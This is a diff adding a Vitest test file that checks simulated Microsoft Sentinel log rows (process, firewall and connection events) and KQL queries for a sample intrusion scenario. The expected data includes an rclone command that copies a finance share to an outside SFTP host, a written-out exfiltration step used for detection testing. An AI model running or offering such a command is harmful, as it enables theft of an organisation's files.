@@ -1,0 +1,128 @@
+import { readFileSync } from 'node:fs'
+import { describe, expect, test } from 'vitest'
+import { HOST_COLUMNS } from '../../src/schemas/sentinel/host-columns.ts'
+import { SENTINEL } from '../../src/simulation/sensors/sentinel/index.ts'
+import { describeWithSharedData, SHARED } from '../shared-data.ts'
+import { sampleActivities } from './sample-scenario.ts'
+import { observed, rowsOf, sessionOver } from './written-records.ts'
+
+const windows = observed(SENTINEL, sampleActivities('windows'))
+const linux = observed(SENTINEL, sampleActivities('linux'))
+const all = [...windows, ...linux]
+const tables: Readonly<Record<string, Readonly<Record<string, string>>>> = HOST_COLUMNS
+
+const fieldsOf = (stream: string, event: string, index = 0) => {
+  const found = windows.filter((record) => record.stream === stream && record.event === event).at(index)
+  if (found === undefined) throw new Error(`no ${event} in ${stream}`)
+  return found.fields
+}
+
+const JSON_FORMS: Readonly<Record<string, (value: unknown) => boolean>> = {
+  datetime: (value) => typeof value === 'string' && /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(value),
+  long: Number.isSafeInteger,
+  int: (value) => Number.isSafeInteger(value) && Math.abs(Number(value)) < 2 ** 31,
+  string: (value) => typeof value === 'string',
+}
+
+function wrong(
+  columns: Readonly<Record<string, string>>,
+  fields: Readonly<Record<string, unknown>>,
+): readonly string[] {
+  return Object.entries(fields)
+    .filter(([name, value]) => JSON_FORMS[columns[name] ?? '']?.(value) !== true)
+    .map(([name, value]) => `${name}: ${JSON.stringify(value)}`)
+}
+
+describe('rows of Sentinel', () => {
+  test('have columns of their table only, each in the form of its type', () => {
+    expect(all.flatMap(({ stream, fields }) => wrong(tables[stream] ?? {}, fields))).toEqual([])
+  })
+
+  test('of a start name the child as the new process, the parent as the process, and composed accounts', () => {
+    expect(fieldsOf('SecurityEvent', '4688', 1)).toMatchObject({
+      EventID: 4688,
+      Activity: '4688 - A new process has been created.',
+      Account: 'CORP\\J.Doe',
+      AccountType: 'User',
+      Process: 'Rclone.exe',
+      NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
+      ParentProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      NewProcessId: expect.stringMatching(/^0x[0-9a-f]+$/),
+      ProcessId: fieldsOf('SecurityEvent', '4688')['NewProcessId'],
+      TargetAccount: '-\\-',
+      TokenElevationType: '%%1936',
+      MandatoryLabel: 'S-1-16-8192',
+      Computer: 'WS-LAB-01.corp.example',
+      Channel: 'Security',
+    })
+  })
+
+  test('of an end tell its status twice, of a connection in the XML only', () => {
+    const end = fieldsOf('SecurityEvent', '4689')
+    expect(end).toMatchObject({ Status: '0x1', Process: 'Rclone.exe' })
+    expect(end['EventData']).toContain('<Data Name="Status">0x1</Data>')
+    const connection = fieldsOf('SecurityEvent', '5156')
+    expect(connection['Activity']).toBe('5156 - The Windows Filtering Platform has allowed a connection.')
+    expect(connection['EventData']).toContain(
+      '<Data Name="Application">\\device\\harddiskvolume3\\users\\public\\rclone.exe</Data>',
+    )
+    expect(connection['EventData']).toContain('<Data Name="Direction">%%14593</Data>')
+    expect(Object.keys(connection)).not.toContain('Account')
+  })
+
+  test('of the firewall have what was sent when the session ends, and nothing of loopback', () => {
+    const sessions = windows.filter(({ stream }) => stream === 'CommonSecurityLog')
+    const start = Date.UTC(2026, 2, 2, 9, 14, 6)
+    expect(sessions[0]).toMatchObject({
+      event: 'TRAFFIC',
+      time: start + 60_000,
+      fields: {
+        SourceIP: '10.20.3.17',
+        DestinationIP: '93.184.215.14',
+        DestinationPort: 22,
+        SentBytes: 52_428_800,
+        ReceivedBytes: 20_480,
+        ApplicationProtocol: 'ssh',
+        DeviceAction: 'allow',
+        Protocol: 'tcp',
+        StartTime: new Date(start).toISOString(),
+      },
+    })
+    const addresses = sessions.map(({ fields }) => `${fields['SourceIP']} ${fields['DestinationIP']}`)
+    expect(addresses.filter((pair) => pair.includes('127.'))).toEqual([])
+    expect(addresses).toContain('10.20.3.99 10.20.3.17')
+  })
+
+  test('are read whole, and queries find what they say', async () => {
+    const session = await sessionOver(SENTINEL, 'rows', all)
+    const { counts, diagnostics } = session.ingested
+    expect([counts.read, counts.rejected, counts.unmapped, diagnostics]).toEqual([all.length, 0, 0, []])
+    const started = await rowsOf(
+      session,
+      'kql',
+      'SecurityEvent | where EventID == 4688 and Process =~ "rclone.exe" | project Account, CommandLine, NewProcessName',
+    )
+    expect(started).toEqual([
+      {
+        Account: 'CORP\\J.Doe',
+        CommandLine: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
+        NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
+      },
+    ])
+    const sent = await rowsOf(
+      session,
+      'kql',
+      'CommonSecurityLog | where DeviceAction == "allow" and DestinationPort == 22 | summarize Sent = sum(SentBytes) by SourceIP',
+    )
+    expect(sent).toEqual([{ SourceIP: '10.20.3.17', Sent: 52_428_800 }])
+  })
+})
+
+describeWithSharedData('rows of Sentinel beside the documented schema', () => {
+  test('have its columns and types', () => {
+    const schema: Record<string, Record<string, string>> = JSON.parse(
+      readFileSync(`${SHARED}/schemas/sentinel.json`, 'utf8'),
+    )
+    expect(all.flatMap(({ stream, fields }) => wrong(schema[stream] ?? {}, fields))).toEqual([])
+  })
+})
